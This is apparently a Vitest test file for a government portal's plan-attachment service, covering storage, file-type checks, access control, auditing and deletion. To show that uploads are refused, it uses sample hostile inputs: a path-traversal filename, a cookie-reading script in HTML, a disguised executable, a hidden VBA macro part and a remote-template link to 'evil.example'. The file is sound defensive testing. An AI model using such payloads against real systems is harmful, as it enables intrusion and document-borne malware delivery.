import { createHash } from "node:crypto";
import { mkdtemp, readdir, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { ForbiddenError, NotFoundError, ValidationError } from "@/lib/domain/errors";
import type { Role } from "@/lib/domain/roles";
import { loadSessionUser, type Actor } from "@/lib/server/auth/session";
import { db } from "@/lib/server/db";
import { addPlanAttachment, MAX_ATTACHMENT_BYTES, openAttachment, removeAttachment } from "@/lib/server/services/attachments";
import { buildZip, minimalDocx, minimalPdf } from "../unit/fixtures/zip";
import { resetDatabase } from "../factories/reset";

// lib/server/auth/session.ts imports the next-auth configuration, which does not load outside Next.js.
vi.mock("@/lib/server/auth", () => ({ auth: async () => null }));

let uploadDir: string;

beforeEach(async () => {
  await resetDatabase();
  uploadDir = await mkdtemp(path.join(tmpdir(), "ngvh-uploads-"));
  process.env.PORTAL_UPLOAD_DIR = uploadDir;
  for (const name of ["S3_ENDPOINT", "S3_BUCKET", "S3_ACCESS_KEY_ID", "S3_SECRET_ACCESS_KEY"]) delete process.env[name];
});
afterEach(async () => {
  await rm(uploadDir, { recursive: true, force: true });
  delete process.env.PORTAL_UPLOAD_DIR;
});
afterAll(() => db.$disconnect());

async function actorFor(role: Role, organizationId: string, email: string): Promise<Actor> {
  const row = await db.user.create({ data: { email, name: role, role, organizationId } });
  const user = await loadSessionUser(row.id);
  if (!user) throw new Error("no session user");
  return { user, ip: null, userAgent: "vitest", via: "session" };
}

async function setup() {
  const home = await db.organization.create({ data: { code: "QN", kind: "PROVINCE", nameVi: "Tỉnh Quảng Ninh" } });
  const other = await db.organization.create({ data: { code: "HN", kind: "CITY", nameVi: "Thành phố Hà Nội" } });
  const plan = await db.actionPlan.create({
    data: { organizationId: home.id, title: "Kế hoạch thực hiện Chiến lược", periodStart: 2026, periodEnd: 2030 },
  });
  return {
    plan,
    editor: await actorFor("ORG_EDITOR", home.id, "editor@quangninh.gov.vn"),
    viewer: await actorFor("ORG_VIEWER", home.id, "viewer@quangninh.gov.vn"),
    outsider: await actorFor("ORG_EDITOR", other.id, "editor@hanoi.gov.vn"),
    outsiderViewer: await actorFor("ORG_VIEWER", other.id, "viewer@hanoi.gov.vn"),
  };
}

async function storedFiles(): Promise<string[]> {
  const entries = await readdir(uploadDir, { recursive: true, withFileTypes: true });
  return entries.filter((e) => e.isFile()).map((e) => path.relative(uploadDir, path.join(e.parentPath, e.name)));
}

async function fileErrorOf(promise: Promise<unknown>) {
  const error = await promise.then(
    () => null,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(ValidationError);
  return (error as ValidationError).fieldErrors;
}

describe("plan attachments", () => {
  it("stores a real PDF outside public/ under a random key, and a same-organization viewer can open it", async () => {
    const { plan, editor, viewer } = await setup();
    const bytes = minimalPdf();
    const created = await addPlanAttachment(editor, plan.id, { name: "../../Quyết định ban hành kế hoạch.pdf", bytes });
    expect(created).toMatchObject({
      fileName: "Quyết định ban hành kế hoạch.pdf",
      mimeType: "application/pdf",
      sizeBytes: bytes.byteLength,
      sha256: createHash("sha256").update(bytes).digest("hex"),
    });
    const row = await db.attachment.findUniqueOrThrow({ where: { id: created.id } });
    expect(row).toMatchObject({ planId: plan.id, uploadedById: editor.user.id });
    expect(row.storageKey).toMatch(/^[0-9a-f]{2}\/[0-9a-f]{32}$/);
    expect(await storedFiles()).toEqual([row.storageKey]);
    expect(new Uint8Array(await readFile(path.join(uploadDir, row.storageKey)))).toEqual(bytes);
    expect(await db.auditLog.findFirst({ where: { entity: "Attachment", entityId: created.id, action: "create" } })).toMatchObject({
      actorEmail: "editor@quangninh.gov.vn",
    });

    const opened = await openAttachment(viewer, created.id);
    expect(opened).toMatchObject({ fileName: "Quyết định ban hành kế hoạch.pdf", mimeType: "application/pdf" });
    expect(opened.bytes).toEqual(bytes);
  });

  it("keeps the type the content has: a PDF renamed .docx is a PDF, a real DOCX is a DOCX", async () => {
    const { plan, editor } = await setup();
    const disguised = await addPlanAttachment(editor, plan.id, { name: "Báo cáo.docx", bytes: minimalPdf() });
    expect(disguised).toMatchObject({ mimeType: "application/pdf", fileName: "Báo cáo.pdf" });
    const docx = await addPlanAttachment(editor, plan.id, { name: "Phụ lục", bytes: minimalDocx() });
    expect(docx).toMatchObject({
      mimeType: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
      fileName: "Phụ lục.docx",
    });
  });

  it.each([
    [
      "a Windows executable renamed .pdf",
      "hoa-don.pdf",
      new TextEncoder().encode("MZ\x90\x00\x03\x00This program cannot be run in DOS mode."),
    ],
    [
      "an HTML page renamed .pdf",
      "ke-hoach.pdf",
      new TextEncoder().encode("<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"),
    ],
    ["a ZIP that is not an Office document", "tai-lieu.docx", buildZip({ "payload.exe": "MZ" })],
  ])("refuses %s and stores nothing", async (_, name, bytes) => {
    const { plan, editor } = await setup();
    expect(await fileErrorOf(addPlanAttachment(editor, plan.id, { name, bytes }))).toEqual({ file: ["file_type_not_allowed"] });
    expect(await db.attachment.count()).toBe(0);
    expect(await storedFiles()).toEqual([]);
  });

  it.each([
    [
      "a macro-enabled Word document whose VBA part is renamed",
      "ke-hoach.docx",
      { "word/data/x.dat": "vba" },
      `<Override PartName="/word/data/x.dat" ContentType="application/vnd.ms-office.vbaProject"/>`,
      "",
    ],
    [
      "a Word document with a remote template (fetched on opening)",
      "bao-cao.docx",
      {},
      "",
      `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`,
    ],
  ])("refuses %s, read from the package's content types and relationships", async (_, name, parts, override, relationship) => {
    const { plan, editor } = await setup();
    const bytes = buildZip({
      "[Content_Types].xml": `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">${override}</Types>`,
      "word/_rels/document.xml.rels": `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship}</Relationships>`,
      "word/document.xml": "<w:document/>",
      ...parts,
    });
    expect(await fileErrorOf(addPlanAttachment(editor, plan.id, { name, bytes }))).toEqual({ file: ["file_has_active_content"] });
    expect(await db.attachment.count()).toBe(0);
  });

  it("refuses a file over 20 MB and an empty one", async () => {
    const { plan, editor } = await setup();
    const big = new Uint8Array(MAX_ATTACHMENT_BYTES + 1);
    big.set(minimalPdf());
    expect(await fileErrorOf(addPlanAttachment(editor, plan.id, { name: "lon.pdf", bytes: big }))).toEqual({
      file: ["attachment_too_large"],
    });
    expect(await fileErrorOf(addPlanAttachment(editor, plan.id, { name: "rong.pdf", bytes: new Uint8Array() }))).toEqual({
      file: ["file_required"],
    });
    expect(await db.attachment.count()).toBe(0);
    expect(await storedFiles()).toEqual([]);
  });

  it("answers another organization as if the plan and file did not exist", async () => {
    const { plan, editor, outsider, outsiderViewer } = await setup();
    const created = await addPlanAttachment(editor, plan.id, { name: "a.pdf", bytes: minimalPdf() });
    await expect(openAttachment(outsiderViewer, created.id)).rejects.toBeInstanceOf(NotFoundError);
    await expect(openAttachment(outsider, created.id)).rejects.toBeInstanceOf(NotFoundError);
    await expect(addPlanAttachment(outsider, plan.id, { name: "b.pdf", bytes: minimalPdf() })).rejects.toBeInstanceOf(NotFoundError);
    await expect(removeAttachment(outsider, created.id)).rejects.toBeInstanceOf(NotFoundError);
    await expect(openAttachment(editor, "no-such-attachment")).rejects.toBeInstanceOf(NotFoundError);
    expect(await db.attachment.count()).toBe(1);
    expect(await storedFiles()).toHaveLength(1);
  });

  it("lets a viewer of the organization read but not add or remove", async () => {
    const { plan, editor, viewer } = await setup();
    const created = await addPlanAttachment(editor, plan.id, { name: "a.pdf", bytes: minimalPdf() });
    await expect(addPlanAttachment(viewer, plan.id, { name: "b.pdf", bytes: minimalPdf() })).rejects.toBeInstanceOf(ForbiddenError);
    await expect(removeAttachment(viewer, created.id)).rejects.toBeInstanceOf(ForbiddenError);
    expect(await db.attachment.count()).toBe(1);
  });

  it("removal deletes the row and the stored file, and is audited", async () => {
    const { plan, editor } = await setup();
    const kept = await addPlanAttachment(editor, plan.id, { name: "giu-lai.pdf", bytes: minimalPdf("giữ") });
    const removed = await addPlanAttachment(editor, plan.id, { name: "xoa.pdf", bytes: minimalPdf("xóa") });
    const keptKey = (await db.attachment.findUniqueOrThrow({ where: { id: kept.id } })).storageKey;
    await removeAttachment(editor, removed.id);
    expect(await db.attachment.findUnique({ where: { id: removed.id } })).toBeNull();
    expect(await storedFiles()).toEqual([keptKey]);
    expect(await db.auditLog.findFirst({ where: { entity: "Attachment", entityId: removed.id, action: "delete" } })).not.toBeNull();
    await expect(openAttachment(editor, removed.id)).rejects.toBeInstanceOf(NotFoundError);
    await expect(removeAttachment(editor, removed.id)).rejects.toBeInstanceOf(NotFoundError);
  });
});
